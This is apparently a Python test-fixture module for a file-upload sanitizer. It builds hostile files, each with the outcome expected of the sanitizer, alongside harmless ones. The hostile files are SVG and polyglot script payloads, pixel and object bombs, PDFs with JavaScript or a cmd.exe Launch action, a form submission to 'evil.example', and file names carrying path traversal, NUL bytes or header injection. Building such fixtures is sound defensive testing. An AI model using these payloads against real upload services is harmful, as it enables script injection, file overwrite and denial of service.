"""Files that mean harm, with what must become of each, and good ones beside them.

Nothing is kept in the repository: each is built when its `data()` is asked for, once.
"""

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from PIL import Image, PngImagePlugin

from tests import hostile_pdf as pdf

HTML = pdf.HTML
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
PACKED = pdf.pikepdf.ObjectStreamMode.generate
PNG = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True)
class Hostile:
    """`about` says what it is, `name` is the file name it comes with.

    `kept_as` is the name it has when it is kept, None when it must be refused; nothing of `gone` may be left in it.
    """

    about: str
    name: str
    make: Callable[[], bytes]
    kept_as: str | None = None
    gone: tuple[bytes, ...] = ()

    def data(self) -> bytes:
        return _made(self.make)


@cache
def _made(make: Callable[[], bytes]) -> bytes:
    return make()


def encoded(format: str, image: Image.Image | None = None, **options: object) -> bytes:
    out = io.BytesIO()
    (image or picture()).save(out, format, **options)
    return out.getvalue()


def picture(mode: str = "RGB", size: tuple[int, int] = (64, 48)) -> Image.Image:
    """Red in the upper left corner, blue elsewhere."""
    image = Image.new("RGB", size, (0, 0, 200))
    image.paste((200, 0, 0), (0, 0, size[0] // 2, size[1] // 2))
    return image.convert(mode)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, packed: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return PNG + head + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def real_bomb() -> bytes:
    """900 million white pixels in about 100 kB, all of them there."""
    squeeze = zlib.compressobj(9)
    row = bytes(1 + 30_000 // 8) * 100
    packed = b"".join(squeeze.compress(row) for _ in range(300)) + squeeze.flush()
    return png_of(30_000, 30_000, packed)


def with_position() -> bytes:
    """A photograph that says where it was taken, and lies on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = "taken at home"
    exif.get_ifd(0x8825).update({1: "N", 2: (31.0, 13.0, 49.0), 3: "E", 4: (121.0, 28.0, 25.0)})
    return encoded("JPEG", exif=exif.tobytes(), comment=b"a comment of mine")


def with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", HTML.decode())
    info.add_text("Zipped", "hidden" * 100, zip=True)
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>where</x:xmpmeta>")
    return encoded("PNG", pnginfo=info)


def truncated(format: str) -> bytes:
    whole = encoded(format, Image.effect_noise((200, 200), 50))
    return whole[: len(whole) // 2]


def many_scans() -> bytes:
    """One pass over the picture a thousand times: each costs as much as a whole picture."""
    whole = encoded("JPEG", picture(), progressive=True)
    last = whole.rindex(b"\xff\xda")
    return whole[:last] + whole[last:-2] * 1000 + whole[-2:]


def _launch() -> pdf.Dictionary:
    return pdf.Dictionary(S=pdf.Name.Launch, F=pdf.String("cmd.exe"))


def _action(kind: str, **more: object) -> Callable[[], pdf.Dictionary]:
    return lambda: pdf.Dictionary(S=pdf.Name("/" + kind), F=pdf.String("https://evil.example/x"), **more)


HOSTILE = (
    Hostile("SVG", "logo.svg", lambda: SVG),
    Hostile("SVG named .png", "logo.png", lambda: SVG),
    Hostile("HTML named .pdf", "certificate.pdf", lambda: HTML),
    Hostile("HTML with a PDF's header inside", "certificate.pdf", lambda: HTML + b"\n" + pdf.saved()),
    Hostile("PDF and HTML at once", "certificate.pdf", lambda: pdf.saved() + HTML),
    Hostile("PDF and HTML at once, ended twice", "certificate.pdf", lambda: pdf.saved() + HTML + b"%%EOF"),
    Hostile("PDF and ZIP at once", "certificate.pdf", lambda: pdf.saved() + pdf.archive()),
    Hostile("PDF with a ZIP around its end", "certificate.pdf", pdf.archive_inside),
    Hostile("GIF", "logo.gif", lambda: encoded("GIF")),
    Hostile("GIF and script at once, named .jpg", "logo.jpg", lambda: b"GIF89a/*" + encoded("GIF") + b"*/=1;alert(1)"),
    Hostile("JPEG 2000 named .jpg", "photo.jpg", lambda: encoded("JPEG2000")),
    Hostile("WEBP named .jpg", "photo.jpg", lambda: encoded("WEBP")),
    Hostile("program named .png", "photo.png", lambda: b"MZ" + bytes(1000)),
    Hostile("white space before a PNG", "photo.png", lambda: b"\n" + encoded("PNG")),
    Hostile("0 bytes", "photo.png", lambda: b""),
    Hostile("a signature and no more", "photo.png", lambda: PNG),
    Hostile("50 MB", "photo.png", lambda: encoded("PNG") + bytes(50 * 1024 * 1024)),
    Hostile("pixel bomb by its header", "photo.png", lambda: png_of(2**31 - 1, 2**31 - 1, b"")),
    Hostile("pixel bomb, a little over", "photo.png", lambda: png_of(8000, 5001, zlib.compress(bytes(1001 * 5001)))),
    Hostile("pixel bomb, complete", "photo.png", real_bomb),
    Hostile("truncated JPEG", "photo.jpg", lambda: truncated("JPEG")),
    Hostile("truncated PNG", "photo.png", lambda: truncated("PNG")),
    Hostile("JPEG of a thousand scans", "photo.jpg", many_scans),
    Hostile("PNG with HTML after it", "photo.png", lambda: encoded("PNG") + HTML, "photo.png", (b"script",)),
    Hostile("PNG with script in its text", "photo.png", with_text, "photo.png", (b"script", b"tEXt", b"zTXt", b"iTXt")),
    Hostile("JPEG with HTML after it", "photo.jpg", lambda: encoded("JPEG") + HTML, "photo.jpg", (b"script",)),
    Hostile("JPEG and ZIP at once", "photo.jpg", lambda: encoded("JPEG") + pdf.archive(), "photo.jpg", (b"PK\5\6",)),
    Hostile("JPEG that says where", "photo.jpg", with_position, "photo.jpg", (b"Exif", b"home", b"comment of mine")),
    Hostile("name with a path", "../../etc/passwd.png", lambda: encoded("PNG"), "passwd.png"),
    Hostile("name with a path of Windows", "..\\..\\C:\\x.png", lambda: encoded("PNG"), "x.png"),
    Hostile("name with NUL", "photo.php\0.png", lambda: encoded("PNG"), "photo.php.png"),
    Hostile("name turned around", "invoice\u202egpj.exe", lambda: encoded("JPEG"), "invoicegpj.jpg"),
    Hostile("name of line breaks", 'a"\r\nSet-Cookie: x=1.png', lambda: encoded("PNG"), 'a"Set-Cookie: x=1.png'),
    Hostile("name of a program", "photo.png.exe", lambda: encoded("PNG"), "photo.png"),
    Hostile("name of HTML", "photo.html", lambda: encoded("PNG"), "photo.png"),
    Hostile("PDF with script on opening", "a.pdf", lambda: pdf.on_opening(pdf.script)),
    Hostile("PDF with script spelled otherwise", "a.pdf", pdf.spelled_otherwise),
    Hostile("PDF with script in a page", "a.pdf", lambda: pdf.in_a_page(pdf.script)),
    Hostile("PDF with script in its names", "a.pdf", pdf.in_names),
    Hostile("PDF with script in a field", "a.pdf", pdf.in_a_field),
    Hostile("PDF with script in packed objects", "a.pdf", lambda: pdf.in_a_page(pdf.script, object_stream_mode=PACKED)),
    Hostile("PDF with script on a link", "a.pdf", lambda: pdf.on_a_link(pdf.script)),
    Hostile("PDF that starts a program", "a.pdf", lambda: pdf.on_opening(_launch)),
    Hostile("PDF that starts a program by a link", "a.pdf", lambda: pdf.on_a_link(_launch)),
    Hostile("PDF that sends its form", "a.pdf", lambda: pdf.on_a_link(_action("SubmitForm"))),
    Hostile("PDF that reads data", "a.pdf", lambda: pdf.on_a_link(_action("ImportData"))),
    Hostile("PDF that opens another", "a.pdf", lambda: pdf.on_opening(_action("GoToR"))),
    Hostile("PDF with a link that runs", "a.pdf", lambda: pdf.on_a_link(lambda: pdf.address("JavaScript:alert(1)"))),
    Hostile("PDF with a file inside", "a.pdf", pdf.with_a_file_inside),
    Hostile("PDF with XFA", "a.pdf", pdf.with_forms_of_xml),
    Hostile("PDF with rich media", "a.pdf", pdf.rich_media),
    Hostile("PDF with a password", "a.pdf", pdf.encrypted),
    Hostile("restricted PDF with a script", "a.pdf", pdf.restricted_with_a_script),
    Hostile("PDF whose pages go in a circle", "a.pdf", pdf.loop_of_pages),
    Hostile("PDF whose pages double", "a.pdf", pdf.doubling_pages),
    Hostile("PDF of half a million pages", "a.pdf", pdf.many_pages),
    Hostile("PDF of deep brackets", "a.pdf", pdf.deep),
    Hostile("PDF with a corrupt index", "a.pdf", pdf.corrupt_index),
    Hostile("PDF with a bomb of objects", "a.pdf", pdf.bomb_of_objects),
    Hostile("half a PDF", "a.pdf", lambda: pdf.saved(pages=9)[:900]),
)

# what must be kept: the same kinds of file without harm
GOOD = (
    Hostile("PNG", "截图 2026.11.23.png", lambda: encoded("PNG"), "截图 2026.11.23.png"),
    Hostile("transparent PNG", "logo.PNG", lambda: encoded("PNG", picture("RGBA")), "logo.png"),
    Hostile("PNG of few colours", "logo.png", lambda: encoded("PNG", picture("P")), "logo.png"),
    Hostile("JPEG", "photo.JPEG", lambda: encoded("JPEG"), "photo.jpg"),
    Hostile("grey JPEG", "photo.jpg", lambda: encoded("JPEG", picture("L")), "photo.jpg"),
    Hostile("JPEG for print", "photo.jpg", lambda: encoded("JPEG", picture("CMYK")), "photo.jpg"),
    Hostile("progressive JPEG", "photo.jpg", lambda: encoded("JPEG", progressive=True), "photo.jpg"),
    Hostile("PDF", "证书.pdf", pdf.saved, "证书.pdf"),
    Hostile("PDF of packed objects", "a.pdf", lambda: pdf.saved(pages=20, object_stream_mode=PACKED), "a.pdf"),
    Hostile("PDF for the web", "a.pdf", lambda: pdf.saved(pages=3, linearize=True), "a.pdf"),
    Hostile("PDF with a link", "a.pdf", lambda: pdf.on_a_link(lambda: pdf.address("https://a.example/")), "a.pdf"),
    Hostile("PDF that only its owner changes", "a.pdf", lambda: pdf.encrypted(user=""), "a.pdf"),
    Hostile("PDF with lines after its end", "a.pdf", lambda: pdf.saved() + b"\r\n\0 ", "a.pdf"),
    # harmless as long as nobody expands it
    Hostile("PDF with a bomb for a page", "a.pdf", pdf.bomb_of_content, "a.pdf"),
)
